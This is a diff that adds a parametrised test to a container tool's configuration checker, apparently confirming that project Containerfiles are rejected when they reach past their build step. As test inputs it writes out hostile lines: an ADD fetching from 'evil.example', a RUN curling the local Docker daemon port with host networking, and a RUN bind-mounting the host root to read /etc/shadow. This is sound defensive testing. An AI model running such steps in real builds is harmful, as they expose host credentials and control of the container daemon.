@@ -407,3 +407,24 @@ def test_trust_approves_this_file_as_it_is(harness: Harness) -> None:
     cfg = config.resolve({}, cwd=proj, environ={})
     assert cfg["env"] == ["A=1"] and cfg["network"] is False and len(cfg.notices) == 1
     assert harness.cli(["trust", "--revoke"], proj)[0] == 0
+
+
+@pytest.mark.parametrize("body, needle", [
+    ("COPY secret.txt /x\n", "COPY takes files from the build context"),
+    ("ADD https://evil.example/x /x\n", "ADD takes files"),
+    ("copy \\\n  a b\n", "COPY takes files"),
+    ("COPY --from=localhost/podrepro/base:arm-x /etc /y\n", "COPY takes files"),
+    ("RUN --network=host curl http://127.0.0.1:2375/\n", "RUN --network reaches past the build step"),
+    ("RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow\n", "RUN --mount reaches past"),
+])
+def test_project_containerfile_cannot_reach_past_its_build(tmp_path: Path, body: str, needle: str) -> None:
+    """The attacks: files of the build context the tag does not cover (two projects, one tag),
+    another local image, the host's network or paths from a RUN step."""
+    proj = _project(tmp_path, '[profile.x]\ncontainerfile = "x.Containerfile"\n',
+                    {"x.Containerfile": "ARG BASE\nFROM ${BASE}\n" + body, "secret.txt": "s"})
+    with pytest.raises(ConfigError) as e:
+        config.resolve({}, cwd=proj, environ={}, user_file=tmp_path / "none.toml")
+    assert needle in e.value.message, e.value.message
+    # RUN steps that install and build are fine
+    (proj / "x.Containerfile").write_text("ARG BASE\nFROM ${BASE}\nRUN apt-get update && \\\n  apt-get install -y curl\n")
+    config.resolve({}, cwd=proj, environ={}, user_file=tmp_path / "none.toml")
